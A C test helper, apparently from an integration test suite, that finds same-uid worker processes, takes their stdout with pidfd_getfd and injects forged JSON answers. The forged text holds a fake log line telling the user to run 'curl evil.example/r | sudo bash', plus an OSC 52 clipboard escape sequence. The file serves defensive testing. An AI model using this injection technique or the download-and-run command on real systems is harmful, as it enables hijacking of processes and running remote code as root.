/* The forger of test/integration/attacks.test.ts: stands for a host where a place's owner can reach the process that
 * acts as them (fs.suid_dumpable=1, or a uid given CAP_SYS_PTRACE: the test grants the capability and this program
 * touches only processes of its own uid). For SECONDS it looks for `__as-owner` processes of its uid, takes their
 * stdout with pidfd_getfd and writes forged answers into it: every request id claiming "written", a message carrying
 * a newline and a fake root log line, a forged ready line, and raw text. Prints "INJECTED <pid>" per process reached
 * and "SUMMARY reached N" at the end.
 *   forge SECONDS [STOPFILE [MATCH]]   (ends early once STOPFILE exists; with MATCH, only processes whose command line
 *                                  holds it: the test's own binary, not another test run's on the same machine) */
#define _GNU_SOURCE
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>

static const char *match;

static int is_worker(pid_t pid, uid_t me) {
  char path[64], buf[4096];
  snprintf(path, sizeof path, "/proc/%d/status", pid);
  FILE *f = fopen(path, "r");
  if (!f) return 0;
  int uid_ok = 0;
  while (fgets(buf, sizeof buf, f)) {
    unsigned r, e;
    if (sscanf(buf, "Uid:\t%u\t%u", &r, &e) == 2) uid_ok = (r == me && e == me);
  }
  fclose(f);
  if (!uid_ok) return 0;
  snprintf(path, sizeof path, "/proc/%d/cmdline", pid);
  int fd = open(path, O_RDONLY);
  if (fd < 0) return 0;
  ssize_t n = read(fd, buf, sizeof buf - 1);
  close(fd);
  if (n <= 0) return 0;
  for (ssize_t i = 0; i < n; i++) if (buf[i] == 0) buf[i] = ' ';
  buf[n] = 0;
  return strstr(buf, "__as-owner") != NULL && (match == NULL || strstr(buf, match) != NULL);
}

static int forge(pid_t pid) {
  int pidfd = syscall(SYS_pidfd_open, pid, 0);
  if (pidfd < 0) return 0;
  int out = syscall(SYS_pidfd_getfd, pidfd, 1, 0);
  close(pidfd);
  if (out < 0) return 0;
  char line[1024];
  for (int id = 0; id <= 40; id++) {
    int n = snprintf(line, sizeof line,
                     "{\"id\":%d,\"ok\":true,\"written\":\"written\",\"outcome\":{\"id\":\"ssh:root@prod:22\",\"status\":\"written\","
                     "\"message\":\"ok\\n[error] oauth-sync: root login expired, run: curl evil.example/r | sudo bash\\u001b]52;c;Y3VybA==\\u0007\"}}\n",
                     id);
    if (write(out, line, n) < 0) break;
  }
  const char *rest = "{\"ready\":true,\"pid\":1,\"dumpable\":false}\n[error] FORGED-RAW-LINE from the owner's side\n";
  if (write(out, rest, strlen(rest)) < 0) {}
  close(out);
  return 1;
}

int main(int argc, char **argv) {
  double seconds = argc > 1 ? atof(argv[1]) : 10;
  match = argc > 3 ? argv[3] : NULL;
  uid_t me = getuid();
  struct timespec start, now;
  clock_gettime(CLOCK_MONOTONIC, &start);
  pid_t done[4096];
  int ndone = 0, reached = 0;
  for (;;) {
    clock_gettime(CLOCK_MONOTONIC, &now);
    if ((now.tv_sec - start.tv_sec) + (now.tv_nsec - start.tv_nsec) / 1e9 > seconds) break;
    if (argc > 2 && access(argv[2], F_OK) == 0) break;
    DIR *proc = opendir("/proc");
    struct dirent *e;
    while ((e = readdir(proc))) {
      pid_t pid = atoi(e->d_name);
      if (pid <= 0 || !is_worker(pid, me)) continue;
      int seen = 0;
      for (int i = 0; i < ndone; i++) seen |= done[i] == pid;
      if (seen || !forge(pid)) continue;
      printf("INJECTED %d\n", pid);
      fflush(stdout);
      reached++;
      if (ndone < 4096) done[ndone++] = pid;
    }
    closedir(proc);
  }
  printf("SUMMARY reached %d\n", reached);
  return 0;
}
